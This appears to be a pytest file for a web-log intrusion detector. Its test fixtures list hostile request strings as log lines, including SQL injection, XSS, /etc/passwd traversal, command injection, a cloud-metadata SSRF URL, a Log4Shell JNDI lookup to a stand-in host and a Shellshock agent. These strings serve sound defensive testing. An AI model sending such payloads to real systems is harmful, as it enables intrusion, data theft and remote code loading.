"""Detectors as kernels: they pickle, run elsewhere, on batches cut anywhere, and give the same rows; attackers' bytes harm nothing."""

from __future__ import annotations

import pickle
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conftest import batch_of, combined
from vigie.detectors.detector import Detector
from vigie.detectors.registry import all_detectors, detect, readers_of, tallies
from vigie.engines.block import Task, do_block
from vigie.records import ACCESS, NOTICE, SIGNAL, TALLY
from vigie.sources.combined import SOURCE
from vigie.sources.source import Reading

ATTACKS = [
    "/?id=1%27%20union%20select%201,user_pass%20from%20wp_users--%20", "/p?x=%3Cscript%3Ealert(1)%3C/script%3E", "/get?f=../../../../etc/passwd",
    "/a?c=;cat%20/etc/hostname", "/b?u=http://169.254.169.254/latest/meta-data/", "/.env", "/wp-content/plugins/x/readme.txt",
    "/i?p=php://filter/convert.base64-encode/resource=index", "/q?x=${jndi:ldap://198.51.100.4/a}", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
]  # fmt: skip
LINES = [
    combined(target, address=f"192.0.2.{n}", time=f"15/Jan/2017:10:{n:02d}:00 +0100", status=404 if n % 2 else 200)
    for n, target in enumerate([*ATTACKS, "/", "/article?id=42", "/?s=l%27union+europ%C3%A9enne"] * 2)
] + [
    b'198.51.100.9 - - [15/Jan/2017:11:00:00 +0100] "\\x16\\x03\\x01" 400 0 "-" "-"\n',
    combined("/x", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
    combined("/x", method="TRACE", status=405),
    combined("/x", agent="() { :;}; /bin/ping -c 1 198.51.100.5"),
]  # fmt: skip


def records(lines):
    rows = SOURCE.read(batch_of(lines), Reading())
    batch = rows.select(range(rows.num_columns - 1))
    return batch.append_column("fingerprint", pa.array(range(batch.num_rows), pa.uint64()))


def rows(batch):
    return sorted(map(repr, batch.to_pylist()))


def test_every_attack_speaks_and_ordinary_requests_do_not():
    spoke = {s["byte_offset"] for s in detect(ACCESS, records(LINES)).to_pylist()}
    offsets = batch_of(LINES).column("byte_offset").to_pylist()
    quiet = [line for line, at in zip(LINES, offsets, strict=True) if at not in spoke]
    assert len(quiet) == 6


@given(st.integers(1, len(LINES) - 1))
def test_cut_anywhere_gives_the_same_signals(cut):
    batch = records(LINES)
    parts = [detect(ACCESS, batch.slice(0, cut)), detect(ACCESS, batch.slice(cut))]
    assert sorted(rows(parts[0]) + rows(parts[1])) == rows(detect(ACCESS, batch))


def _elsewhere(kind, batch):
    return pa.Table.from_batches([detect(kind, batch)]), pa.Table.from_batches([tallies(kind, batch, detect(kind, batch))])


def test_the_same_rows_in_another_process():
    batch = records(LINES)
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as other:
        signals, counts = other.submit(_block, batch).result()
    assert sorted(map(repr, signals)) == rows(detect(ACCESS, batch))
    assert sorted(map(repr, counts)) == rows(tallies(ACCESS, batch, detect(ACCESS, batch)))


def _block(batch):
    signals, counts = _elsewhere(ACCESS, batch)
    return signals.to_pylist(), counts.to_pylist()


def test_a_whole_block_is_a_kernel_too():
    task = Task("access.log", "access.log", 0, "combined", Reading())
    assert pickle.loads(pickle.dumps(task)) == task
    whole = do_block(b"".join(LINES), task)
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as other:
        there = other.submit(do_block, b"".join(LINES), task).result()
    assert there.signals.to_pylist() == whole.signals.to_pylist()
    assert there.evidence.to_pylist() == whole.evidence.to_pylist()
    assert (there.lines, there.unread, there.first, there.last) == (whole.lines, whole.unread, whole.first, whole.last)


@pytest.mark.parametrize("detector", all_detectors(), ids=lambda d: d.name)
def test_a_confirmer_pickles(detector: Detector):
    assert detector.confirm is None or pickle.loads(pickle.dumps(detector.confirm)) is detector.confirm
    assert detector in readers_of(detector.reads)


HOSTILE = st.one_of(
    st.binary(max_size=200),
    st.lists(st.sampled_from([b"'", b'"', b"%", b"%2", b"%25", b"%u00", b"&#x", b"\\x", b"../", b"union select", b"<", b"${", b"\xc0\xae", b"\xff", b"\x00", b"=" * 60, b"("]),
             max_size=40).map(b"".join),
)  # fmt: skip


@given(st.lists(HOSTILE, min_size=1, max_size=6))
@example([b"/?a=" + b"%25" * 3000])
@example([b"/?" + b"a=1&" * 2000])
@example([b"/?x=" + b"(" * 5000])
@example([b"/?x=" + b"/*" * 3000])
@example([b"/?x=" + b"&#" * 3000 + b";"])
def test_any_text_gives_valid_signals_whose_evidence_stands_in_the_line(texts):
    lines = [b'192.0.2.7 - - [15/Jan/2017:10:00:00 +0100] "GET ' + t.replace(b"\n", b"").replace(b'"', b"") + b' HTTP/1.1" 200 5 "-" "' + t.replace(b"\n", b"").replace(b'"', b"") + b'"\n' for t in texts]
    batch = records(lines)
    found = detect(ACCESS, batch)
    found.validate(full=True)
    assert found.schema.equals(SIGNAL.schema)
    offsets = batch.column("byte_offset").to_pylist()
    for signal in found.to_pylist():
        line = lines[offsets.index(signal["byte_offset"])]
        assert signal["evidence"] in line.decode("utf-8", "replace") or signal["evidence"] in line.decode("latin-1")
        assert 0 < signal["confidence"] <= 1
        assert signal["rule"].split(".")[0] == signal["family"]


def test_the_site_s_own_address_in_front_of_a_path_is_no_probe_for_a_proxy():
    line = b'www.site.example:443 192.0.2.7 - - [15/Jan/2017:10:00:00 +0100] "GET %s HTTP/1.1" 200 5 "-" "-"\n'
    own, other, attack = (records([line % t]) for t in (b"https://WWW.site.example/a", b"http://other.example/a", b"http://www.site.example/?id=1%27%20union%20select%201,2--%20"))
    assert detect(ACCESS, own).num_rows == 0
    assert detect(ACCESS, other).column("family").to_pylist() == ["proxy_probe"]
    assert detect(ACCESS, attack).column("family").to_pylist() == ["sql_injection"]


def test_nothing_comes_of_nothing():
    for kind in (ACCESS, NOTICE):
        assert detect(kind, kind.empty()).num_rows == 0
        assert tallies(kind, kind.empty(), SIGNAL.empty()).schema.equals(TALLY.schema)
